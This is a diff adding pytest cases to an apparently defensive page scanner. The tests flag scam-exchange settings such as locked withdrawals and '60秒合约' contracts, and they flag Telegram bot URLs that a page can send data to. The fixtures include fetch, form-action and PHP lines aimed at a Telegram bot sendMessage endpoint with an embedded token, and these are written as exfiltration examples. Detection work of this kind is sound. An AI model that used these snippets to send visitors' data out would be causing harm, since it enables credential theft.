@@ -113,3 +113,68 @@ def test_a_trap_that_is_only_shown_is_no_deed_of_the_page(shown: str) -> None:
     assert deeds(shown) == ()
     assert deeds(shown + f"<script type=text/javascript>{TRAP}</script>") == ("debugger-timer",)
     assert deeds(f"<script type=b1f2-text/javascript>{TRAP}</script>") == ("debugger-timer",)
+
+
+SETTING, SAID = (
+    '{"withdrawal_locked": 1}',
+    "Don't pay any tax before withdrawal! \"60秒合约\" is how they say it, 'tax before withdrawals' too.",
+)
+
+
+def settings(source: str) -> tuple[str, ...]:
+    return read_page(body=source.encode(), content_type="text/html", url="https://a.test/", host="a.test", suffix="test")[0].behaviours
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        f"<script>const s = {SETTING}</script>",
+        f"<script type=application/json>{SETTING}</script>",
+        f"<div data-page='{SETTING}'></div>",
+        f"<iframe srcdoc='<script>s={escape(SETTING)}</script>'></iframe>",
+        "<script>say('You have to pay tax before withdrawal')</script>",
+        "<script>menu = '<b>60秒合约</b>'</script>",
+        "<!-- 60秒合约 -->",
+        f"<p>{SAID}</p><script>s={SETTING}</script>",
+    ],
+)
+def test_settings_stand_in_what_programs_hold(source: str) -> None:
+    assert {"withdrawal-locked", "seconds-contracts"} & {*settings(f"<!doctype html>{source}")}
+
+
+@pytest.mark.parametrize(
+    "source", [f"<p>{SAID}</p>", f"<pre>{SETTING}</pre>", f"<p class='a'>{SAID}</p><script>say('tax')</script>", f"<title>{SAID}</title>"]
+)
+def test_words_that_visitors_read_are_no_settings_of_scripts(source: str) -> None:
+    """An apostrophe before them made a bank's warning the settings of an exchange."""
+    assert settings(f"<!doctype html>{source}") == ()
+
+
+BOT = "https://api.telegram.org/bot110201543:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw0/sendMessage"
+
+
+def sends_to(source: str) -> tuple[str, ...]:
+    return read_page(body=source.encode(), content_type="text/html", url="https://a.test/", host="a.test", suffix="test")[0].exfil
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        f"<script>fetch('{BOT}')</script>",
+        f"<form action='{BOT}'><input name=q></form>",
+        f"<script type=application/json>{{'url': '{BOT}'}}</script>",
+        f"<button onclick=\"post('{BOT}')\">",
+        f"<? $url = '{BOT}'; ?>",
+        f"<?php if ($a->b) $url = '{BOT}'; ?>",
+        f"<script>document.write(\"<form action='{BOT}'></form>\")</script>",
+        f"<iframe srcdoc='{escape(f'<script>fetch({BOT!r})</script>')}'></iframe>",
+    ],
+)
+def test_a_bot_to_which_a_page_can_send_is_found(source: str) -> None:
+    assert sends_to(f"<!doctype html>{source}") == ("telegram-bot",)
+
+
+@pytest.mark.parametrize("tag", ["pre", "p", "code", "textarea"])
+def test_a_bot_that_is_only_shown_gets_nothing(tag: str) -> None:
+    """A lesson with a place for comments was accused of sending its readers' passwords there."""
+    assert sends_to(f"<!doctype html><{tag}>fetch('{BOT}')</{tag}>") == ()
